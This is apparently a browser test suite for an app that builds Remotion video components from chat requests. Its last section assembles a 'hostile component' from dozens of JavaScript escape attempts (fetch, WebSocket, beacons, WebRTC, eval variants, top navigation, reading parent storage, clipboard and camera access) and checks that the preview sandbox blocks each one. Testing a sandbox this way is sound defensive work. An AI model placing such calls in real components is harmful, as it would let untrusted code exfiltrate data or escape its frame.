"""Built components on the page: from words to a card, a preview, a place in the video; and what hostile ones cannot do."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any
from uuid import uuid4

import pytest
from playwright.sync_api import FrameLocator, Locator, Page, expect
from sqlalchemy import NullPool, create_engine, text

from shared.engine import sqlalchemy_url
from tests.browser.site import STEP_TIMEOUT_MS, Site, Watched
from tests.listening import Listener, listening
from tests.stack import Stack
from worker.compiler import REMOTION

expect.set_options(timeout=STEP_TIMEOUT_MS)

COUNTER = """\
import { AbsoluteFill, useCurrentFrame } from "remotion";
export default function Counter() {
  return <AbsoluteFill><p>at {useCurrentFrame()}</p></AbsoluteFill>;
}
"""


@pytest.fixture(scope="module")
def building(request: pytest.FixtureRequest) -> Iterator[Stack]:
    """A stack with a builder, for the whole module."""
    from tests.stack import StackStarter

    databases = (request.getfixturevalue("postgres_databases"), request.getfixturevalue("valkey_databases"))
    with StackStarter(*databases) as starter:
        yield starter(builders=1)


@pytest.fixture
def site(building: Stack) -> Site:
    building.model.reset()
    token, _ = building.store.create_token(f"reader-{uuid4()}")
    return Site(building.urls[0], token, building.model)


@pytest.fixture
def project(site: Site) -> dict[str, Any]:
    made: dict[str, Any] = site.call("POST", "/v1/projects", {"name": "Clip", "template": "video"})
    return made


@pytest.fixture
def open_project(site: Site, watch: Callable[..., Watched], project: dict[str, Any]) -> Callable[..., Watched]:
    def open_it(**options: object) -> Watched:
        watched = watch(site.origin, **{"reduced_motion": "reduce", **options})
        watched.page.goto(f"{watched.origin}/#token={site.token}&project={project['id']}")
        expect(watched.page.locator("[data-version]")).to_be_attached()
        return watched

    return open_it


def ask(page: Page, words: str) -> None:
    page.get_by_role("textbox", name="Message").fill(words)
    page.keyboard.press("Enter")


def build(
    site: Site, page: Page, source: str | None = None, words: str = "Build a ball component called Ball"
) -> Locator:
    """Asks for a component, of this source where there is one; its card once it is built."""
    if source is not None:
        site.model.say("Write the component", {"text": f"```tsx\n{source}```\n"})
    ask(page, words)
    card = page.locator(".job-card").last
    expect(card).to_have_attribute("data-status", "success")
    return card


def inside(player: Locator) -> FrameLocator:
    return player.frame_locator("iframe")


def test_a_component_is_built_from_words_previewed_scrubbed_placed_and_plays_in_the_video(
    site: Site, open_project: Callable[..., Watched]
) -> None:
    page = open_project().page
    card = build(site, page, COUNTER)
    card.get_by_role("button", name="Preview").click()
    player = card.locator(".player")
    expect(inside(player).get_by_text("at 0", exact=True)).to_be_visible()
    scrubber = player.get_by_role("slider", name="Frame")
    scrubber.focus()
    page.keyboard.press("ArrowRight")
    expect(inside(player).get_by_text("at 1", exact=True)).to_be_visible()
    scrubber.fill("42")
    expect(inside(player).get_by_text("at 42", exact=True)).to_be_visible()
    card.get_by_role("button", name="Source").click()
    expect(card.locator(".job-source code")).to_have_text(COUNTER)
    card.get_by_role("button", name="Add to the video").click()
    expect(card.locator(".job-placed")).to_be_visible()
    video = page.locator(".preview .player")
    expect(inside(video).get_by_text("Welcome")).to_be_attached()
    video.get_by_role("slider").fill("370")  # it begins after twelve seconds of thirty frames
    expect(inside(video).get_by_text("at 10", exact=True)).to_be_visible()
    video.get_by_role("button", name="Play").click()
    expect(video).to_have_attribute("data-frame", "509")


def test_the_shim_has_what_the_compiler_allows(modules: Page) -> None:
    names = modules.evaluate("async () => Object.keys(await import('/static/preview/remotion.js'))")
    assert sorted(names) == sorted(REMOTION)


# What goes wrong in a component


def test_an_error_in_a_component_is_shown_in_words(site: Site, open_project: Callable[..., Watched]) -> None:
    page = open_project().page
    source = COUNTER.replace("  return", '  if (useCurrentFrame() > 5) throw new Error("out of balls");\n  return')
    card = build(site, page, source)
    card.get_by_role("button", name="Preview").click()
    player = card.locator(".player")
    expect(inside(player).get_by_text("at 0", exact=True)).to_be_visible()
    player.get_by_role("slider").fill("6")
    expect(player.get_by_role("alert")).to_contain_text("Ball: Error: out of balls")


def test_a_component_that_hangs_is_stopped_and_the_page_stays_usable(
    site: Site, open_project: Callable[..., Watched]
) -> None:
    page = open_project().page
    source = COUNTER.replace("  return", "  const frame = useCurrentFrame();\n  while (frame > 5) {}\n  return")
    card = build(site, page, source)
    card.get_by_role("button", name="Preview").click()
    player = card.locator(".player")
    expect(inside(player).get_by_text("at 0", exact=True)).to_be_visible()
    player.get_by_role("slider").fill("6")
    expect(player.get_by_role("alert")).to_contain_text("does not answer")
    page.get_by_role("textbox", name="Message").fill("still here")
    expect(page.get_by_role("textbox", name="Message")).to_have_value("still here")
    player.get_by_role("button", name="Stop it").click()
    expect(player.locator("iframe")).to_have_count(0)
    expect(player).to_have_attribute("data-phase", "stopped")


def test_a_broken_component_is_repaired(site: Site, open_project: Callable[..., Watched]) -> None:
    page = open_project().page
    card = build(site, page, words="Build a broken countdown component")
    job = site.call("GET", f"/v1/jobs/{card.get_attribute('data-job')}")
    assert (job["name"], job["tries"]) == ("Countdown", 2)
    ask(page, "Add the countdown component to the video")
    expect(card.locator(".job-placed")).to_be_visible()


# What a hostile component cannot do


ATTEMPTS = {
    "fetch": "await fetch(E)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', E); x.send()",
    "websocket": "new WebSocket(E.replace('http', 'ws'))",
    "event source": "new EventSource(E)",
    "beacon": "navigator.sendBeacon(E, 'x')",
    "webrtc": """const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + U},
        {urls: 'turn:127.0.0.1:' + P + '?transport=tcp', username: 'a', credential: 'b'}]});
        c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())""",
    "image": "new Image().src = E",
    "audio": "new Audio(E).play()",
    **{
        f"link {rel}": f"const l = document.createElement('link'); l.rel = '{rel}'; l.href = E; document.head.append(l)"
        for rel in ("stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "icon")
    },
    "script": "const s = document.createElement('script'); s.src = E; document.head.append(s)",
    "css": "const s = document.createElement('style'); s.textContent = `@import url(${E}); body{background:url(${E});"
    "list-style:url(${E})} @font-face{font-family:x;src:url(${E})} p{font-family:x}`; document.head.append(s);"
    "document.body.append(Object.assign(document.createElement('p'), {textContent: 'x'}))",
    "import http": "await import(E + '/x.js')",
    "import data": "await import('data:text/javascript,globalThis.imported=1'); done('imported')",
    "import blob": "await import(URL.createObjectURL(new Blob([''], {type: 'text/javascript'}))); done('imported')",
    "eval": "eval('1'); done('evaluated')",
    "top navigation": "top.location = E",
    "window open": "if (open(E)) done('opened')",
    "form": "const f = document.createElement('form'); f.action = E; document.body.append(f); f.submit()",
    "parent": "done('read ' + parent.document.title)",
    "cookie": "document.cookie = 'a=1'; done('wrote ' + document.cookie)",
    "storage": "localStorage.setItem('a', '1'); done('stored')",
    "indexed": "indexedDB.open('x'); done('opened a database')",
    "service worker": "await navigator.serviceWorker.register('/static/preview/main.js'); done('registered')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1']))); done('worker')",
    "iframe": "const f = document.createElement('iframe'); f.src = E; document.body.append(f)",
    "markup": "document.body.innerHTML += `<iframe srcdoc='<p>x</p>'></iframe>`; done('markup')",
    "custom element": "class A extends HTMLIFrameElement {} customElements.define('a-b', A, {extends: 'iframe'});"
    "const f = new A(); f.src = E; document.body.append(f)",
    "alert": "if (confirm('?')) done('asked')",
    "function by its constructor": "(() => {}).constructor('return 1')(); done('evaluated')",
    "function by reflection": "Reflect.construct(Function, ['return 1'])(); done('evaluated')",
    "eval by another name": "globalThis['ev' + 'al']('1'); done('evaluated')",
    "timer of text": "setTimeout('globalThis.timed = 1'); await new Promise((go) => setTimeout(go, 50));"
    "if (globalThis.timed) done('evaluated')",
    "worker of elsewhere": "new Worker(E + '/w.js'); done('worker')",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob(['1']))); done('worker')",
    "worklet": "await CSS.paintWorklet.addModule(E + '/w.js'); done('worklet')",
    "audio worklet": "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(E + '/w.js'); done('worklet')",
    "web transport": "await new WebTransport(E.replace('http', 'https')).ready; done('connected')",
    "keepalive": "await fetch(E, {keepalive: true, mode: 'no-cors', method: 'POST', body: 'x'}); done('sent')",
    "fetch later": "fetchLater(E, {activateAfter: 0})",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    "s.text = JSON.stringify({prefetch: [{urls: [E + '/p']}], prerender: [{urls: [E + '/r']}]}); document.head.append(s)",
    "set of pictures": "const i = new Image(); i.srcset = E + '/i 1x'; document.body.append(i)",
    "poster": "const v = document.createElement('video'); v.poster = E + '/p'; v.src = E + '/v'; document.body.append(v)",
    "object": "const o = document.createElement('object'); o.data = E + '/o'; document.body.append(o)",
    "embed": "const e = document.createElement('embed'); e.src = E + '/e'; document.body.append(e)",
    "picture in a drawing": "const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg');"
    "for (const t of ['image', 'use', 'feImage']) { const i = document.createElementNS(n, t);"
    "i.setAttribute('href', E + '/' + t); s.append(i); } document.body.append(s)",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + E;"
    "document.head.append(m)",
    "looser policy": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';"
    "m.content = 'connect-src *'; document.head.append(m); await fetch(E, {mode: 'no-cors'}); done('sent')",
    "reports": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';"
    "m.content = `img-src 'none'; report-uri ${E}/report`; document.head.append(m); new Image().src = 'data:,x'",
    "link manifest": "const l = document.createElement('link'); l.rel = 'manifest'; l.href = E; document.head.append(l)",
    "link prerender": "const l = document.createElement('link'); l.rel = 'prerender'; l.href = E; document.head.append(l)",
    "payment": "const amount = {currency: 'EUR', value: '1'};"
    "await new PaymentRequest([{supportedMethods: E}], {total: {label: 'x', amount}}).canMakePayment()",
    "identity": "await navigator.credentials.get({identity: {providers: [{configURL: E + '/c', clientId: 'x'}]}})",
    "caches": "await caches.open('x'); done('stored')",
    "cookie store": "await cookieStore.set('a', '1'); done('stored')",
    "file system": "await navigator.storage.getDirectory(); done('stored')",
    "clipboard": "await navigator.clipboard.writeText('x'); done('wrote')",
    "reading the clipboard": "await navigator.clipboard.readText(); done('read')",
    "camera": "await navigator.mediaDevices.getUserMedia({video: true}); done('seen')",
    "place": "await new Promise((go, no) => navigator.geolocation.getCurrentPosition(go, no)); done('found')",
    "notice": "if (await Notification.requestPermission() === 'granted') done('noticed')",
    "full screen": "await document.documentElement.requestFullscreen(); done('covered')",
    "pointer": "await document.body.requestPointerLock(); if (document.pointerLockElement) done('held')",
    "download": "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x';"
    "document.body.append(a); a.click()",
    "link in a new page": "const a = document.createElement('a'); a.href = E; a.target = '_blank';"
    "document.body.append(a); a.click()",
    "link of script": "const a = document.createElement('a'); a.href = 'javascript:globalThis.ran = 1'; a.textContent = 'x';"
    "document.body.append(a); a.click(); await new Promise((go) => setTimeout(go, 50)); if (globalThis.ran) done('ran')",
    "form of the parent": "const f = document.createElement('form'); f.action = E; f.target = '_top';"
    "document.body.append(f); f.submit()",
    "history of the parent": "top.history.pushState({}, '', '/x'); done('moved')",
    "storage of the parent": "done('read ' + parent.localStorage.length)",
    "parent's name": "parent.name = 'x'; done('named')",
    "resolving": "new Image().src = E + '/?' + import.meta.url",
}
LEAVING = {
    "location": "location = E",
    "anchor": "const a = document.createElement('a'); a.href = E; a.ping = E; document.body.append(a); a.click()",
}
HOSTILE = """\
import { jsx } from "react/jsx-runtime";
const [E, P, U] = ["http://127.0.0.1:%d", %d, %d];
const tell = (name, text) => parent.postMessage({ type: "error", name, text }, "*");
const done = (text) => { throw new Error("DONE " + text); };
const attempts = {%s};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await Promise.race([attempt(), new Promise((go) => setTimeout(go, 1000))]); } catch (error) {
      if (error.message?.startsWith("DONE")) tell("breach", name + ": " + error.message);
    }
  }
  tell("finished", "all tried");
})();
export default () => jsx("p", { children: "hostile" });
"""


def put_bundle(stack: Stack, job_id: str | None, bundle: str) -> None:
    """Past the compiler's check."""
    engine = create_engine(sqlalchemy_url(stack.database_url), poolclass=NullPool)
    with engine.begin() as connection:
        connection.execute(text("UPDATE component_jobs SET bundle = :it WHERE id = :id"), {"it": bundle, "id": job_id})


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as made:
        yield made


def previewed(building: Stack, site: Site, watched: Watched, listener: Listener, attempts: dict[str, str]) -> Locator:
    card = build(site, watched.page, COUNTER)
    listed = ",".join(f'"{name}": async () => {{ {code} }}' for name, code in attempts.items())
    bundle = HOSTILE % (listener.port, listener.port, listener.udp_port, listed)
    put_bundle(building, card.get_attribute("data-job"), bundle)
    card.get_by_role("button", name="Preview").click()
    return card.locator(".player")


def test_a_hostile_component_reaches_nobody_and_nothing(
    building: Stack, site: Site, open_project: Callable[..., Watched], listener: Listener
) -> None:
    watched = open_project()
    watched.is_attacked = True
    downloads: list[str] = []
    watched.page.on("download", lambda download: downloads.append(download.url))
    player = previewed(building, site, watched, listener, ATTEMPTS)
    expect(player.get_by_role("alert")).to_contain_text("finished: all tried", timeout=90_000)
    words = player.get_by_role("alert").inner_text()
    assert "breach" not in words, words
    assert listener.close() == []
    assert downloads == []
    assert watched.page.url.startswith(site.origin)
    assert len(watched.context.pages) == 1


@pytest.mark.parametrize("how", LEAVING)
def test_a_component_that_leaves_its_frame_sends_no_request(
    building: Stack, site: Site, open_project: Callable[..., Watched], listener: Listener, how: str
) -> None:
    """The page's frame-src stops it. Chromium may have opened a connection by then: not a byte goes over it."""
    watched = open_project()
    watched.is_attacked = True
    player = previewed(building, site, watched, listener, {how: LEAVING[how]})
    expect(player.get_by_role("alert")).to_contain_text(re.compile("does not answer|finished"))
    assert all(heard == b"TCP " for heard in listener.close())
    expect(watched.page.get_by_role("textbox", name="Message")).to_be_visible()
